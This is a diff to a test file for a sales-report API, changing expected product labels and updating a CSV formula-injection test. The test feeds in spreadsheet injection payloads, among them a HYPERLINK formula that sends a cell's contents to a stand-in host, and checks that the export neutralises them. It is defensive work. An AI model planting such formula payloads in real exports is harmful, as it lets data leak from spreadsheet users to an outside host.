@@ -78,7 +78,7 @@ describe('GET /api/reports/sales', () => {
       [
         { key: String(horchata.id), label: 'Horchata', orders: 1, quantity: 2, revenue: 2 * horchata.price },
         { key: String(plate.id), label: plate.name, orders: 1, quantity: 1, revenue: plate.price },
-        { key: 'pos:Café de olla', label: 'Café de olla', orders: 1, quantity: 2, revenue: 50 },
+        { key: 'pos:Café de olla', label: 'Café de olla (punto de venta)', orders: 1, quantity: 2, revenue: 50 },
       ].sort((a, b) => b.revenue - a.revenue || a.label.localeCompare(b.label)),
     )
     const byZone = await report('from=2026-11-20&to=2026-11-21&groupBy=zone')
@@ -121,10 +121,10 @@ describe('GET /api/reports/sales', () => {
       await t.request('/api/orders', { method: 'POST', headers: { cookie }, json: { customerName: 'x', items: [{ name, quantity: 1, price: 1 }], total: 1 } })
     }
     const text = await (await t.request('/api/reports/sales?from=2026-11-23&to=2026-11-23&groupBy=product&format=csv', { headers: { cookie } })).text()
-    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""clic"")"`)
-    expect(text).toContain(",'+cmd,")
-    expect(text).toContain(",'-2+3,")
-    expect(text).toContain(",'@SUM(A1),")
+    expect(text).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""clic"") (punto de venta)"`)
+    expect(text).toContain(",'+cmd (punto de venta),")
+    expect(text).toContain(",'-2+3 (punto de venta),")
+    expect(text).toContain(",'@SUM(A1) (punto de venta),")
     expect(text).not.toMatch(/(^|,)[=+\-@]/m)
   })
 
